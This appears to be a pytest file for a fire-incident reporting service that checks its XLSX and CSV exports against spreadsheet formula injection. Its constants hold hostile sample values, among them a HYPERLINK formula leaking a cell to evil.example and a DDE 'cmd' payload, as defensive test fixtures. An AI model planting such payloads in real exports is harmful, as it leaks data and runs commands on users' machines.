"""Text that comes from imports and the field (unit names, notes, reasons) must stay text in XLSX and CSV.

A township name such as ``=HYPERLINK(…)`` is imported from a boundary file; openpyxl stores any string starting
with ``=`` as a formula, and Excel evaluates a CSV cell starting with ``=``, ``+``, ``-`` or ``@`` (CSV/formula
injection, OWASP). The scenario's November data is changed to carry such names.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

from openpyxl import load_workbook

from service.incidents.states import IncidentState
from service.reports import tables
from service.reports.data import ReportData
from service.reports.points_csv import HEADER, write_csv
from service.reports.xlsx import write_xlsx
from service.stats.lifecycle import CLAIMED_DUPLICATE, OutcomeKind, outcome
from service.stats.records import Transition

HOSTILE_TOWNSHIP = '=HYPERLINK("http://evil.example/?leak="&A1,"东镇")'
HOSTILE_COUNTY = "+cmd|' /C calc'!A0"
HOSTILE_UNIT = "@SUM(1+1)"
HOSTILE_CODE = "-2+3"
CLAIMED_ZH = "重复（乡镇自报）"


def hostile(data: ReportData) -> ReportData:
    """The report with formula-like unit names on every fire point and scored unit."""
    points = [replace(p, township_name=HOSTILE_TOWNSHIP, county_name=HOSTILE_COUNTY) for p in data.points]
    board = replace(
        data.board, units=[replace(u, name=HOSTILE_UNIT, parent_code=HOSTILE_CODE) for u in data.board.units]
    )
    return replace(data, points=points, board=board)


def test_xlsx_keeps_formula_like_names_as_text(november: ReportData, tmp_path: Path) -> None:
    path = tmp_path / "report.xlsx"
    write_xlsx(hostile(november), path)
    book = load_workbook(path)
    points = book["Fire points"]
    column = {c.value: c.column for c in points[1]}
    township = points.cell(row=2, column=column["township 乡镇(街道)"])
    assert township.data_type == "s"  # a string cell, not a formula Excel would evaluate
    assert township.value == HOSTILE_TOWNSHIP  # shown exactly as imported
    assert township.quotePrefix  # and kept as text when someone edits the cell
    ranked = book["Ranked units"]
    for row in ranked.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row)
    names = {cell.value for row in ranked.iter_rows(min_row=2, max_col=4) for cell in row}
    assert {HOSTILE_UNIT, HOSTILE_CODE} <= names
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title


def test_csv_neutralises_formula_like_cells(november: ReportData) -> None:
    buffer = io.BytesIO()
    write_csv(hostile(november), buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8-sig"))))
    body = [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]
    assert body
    for row in body:
        assert row["乡镇（街道）"] == "'" + HOSTILE_TOWNSHIP
        assert row["县（市、区）"] == "'" + HOSTILE_COUNTY
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
        # numbers stay numbers
        assert float(row["经度(WGS-84)"]) > 0
        assert int(row["事件编号"]) > 0


def test_a_patrols_own_duplicate_claim_has_a_chinese_reason(november: ReportData) -> None:
    """A township's "duplicate" is counted as an ordinary false alarm with reason duplicate_claimed (see
    service.stats.lifecycle); the Chinese lists must name it in Chinese, not print the internal code."""
    point = next(p for p in november.points if outcome(p.transitions).kind is OutcomeKind.FALSE_ALARM)
    notified = next(t for t in point.transitions if t.to_state is IncidentState.NOTIFIED)
    claimed = replace(
        point,
        transitions=(
            notified,
            Transition(notified.at, IncidentState.FALSE_ALARM, reason=CLAIMED_DUPLICATE, actor_role="patrol"),
        ),
    )
    data = replace(november, points=[claimed])
    assert outcome(claimed.transitions).reason == CLAIMED_DUPLICATE
    buffer = io.BytesIO()
    write_csv(data, buffer)
    row = dict(zip(HEADER, list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8-sig"))))[1], strict=True))
    assert row["处置结果"] == "误报"
    assert row["误报原因"] == CLAIMED_ZH
    xlsx_row = next(tables.point_rows(data))
    assert xlsx_row[tables.POINTS_HEADER.index("reason 原因")] == CLAIMED_ZH
